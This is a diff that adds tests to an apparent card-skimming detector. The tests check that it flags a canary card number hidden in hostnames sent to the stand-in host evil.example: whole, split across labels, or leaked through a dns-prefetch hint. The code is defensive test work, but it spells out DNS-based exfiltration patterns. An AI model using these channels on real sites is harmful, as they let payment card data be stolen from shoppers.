@@ -264,3 +264,39 @@ def test_gate_notes_for_scripts_that_sent_nothing() -> None:
     assert not any("s4" in n for n in notes)  # it did send: no gate stopped it
     plain = PageCapture(url=PAGE, final_url=PAGE, status=200)
     assert gate_notes(plain, [url_gate], {}) == []  # no shopping, no claims about gates
+
+
+# ----------------------------------------------------------------------------- host names
+def test_the_card_in_a_host_name_is_exfiltration_named_by_its_domain() -> None:
+    labels = f"x{CANARY.pan}.collect.evil.example"
+    [f], marked = findings_for(request(f"https://{labels}/", None, resource="connection",
+                                       method="GET", status=None))
+    assert f.rule == "canary-exfiltration" and f.severity is Severity.CRITICAL
+    assert f.evidence["host"] == "evil.example" and f.evidence["where"] == "host name"
+    assert f.evidence["channel"] == "host name (connection)"
+    assert CANARY.pan not in json.dumps(f.evidence) + f.message
+    assert f.evidence["request"]["url"].startswith("https://[canary:")
+    assert marked[0].carries_canary
+
+
+def test_the_card_spread_over_labels_is_found() -> None:
+    pan = CANARY.pan
+    spread = ".".join(pan[i:i + 4] for i in range(0, 16, 4))
+    [f], _ = findings_for(request(f"https://{spread}.evil.example/", None, method="GET"))
+    assert f.evidence["host"] == "evil.example"
+
+
+def test_resource_hints_are_searched_as_requests_that_never_happened() -> None:
+    hint = InstrumentEvent("sink", {"sink": "link-hint", "rel": "dns-prefetch",
+                                    "url": f"https://d{CANARY.pan}.evil.example/"}, script="s1")
+    quiet = InstrumentEvent("sink", {"sink": "link-hint", "rel": "preconnect",
+                                     "url": "https://fonts.evil.example/"}, script="s1")
+    [f], marked = findings_for(instrumentation=(hint, quiet))
+    assert f.evidence["channel"] == "host name (link-hint)" and f.script == "s1"
+    assert f.evidence["quarantined"] is True
+    assert [r.carries_canary for r in marked if r.resource_type == "link-hint"] == [True, False]
+
+
+def test_an_ordinary_host_with_digits_is_not_the_card() -> None:
+    found, _ = findings_for(request("https://cdn42.evil.example/a", "x=1"))
+    assert found == []
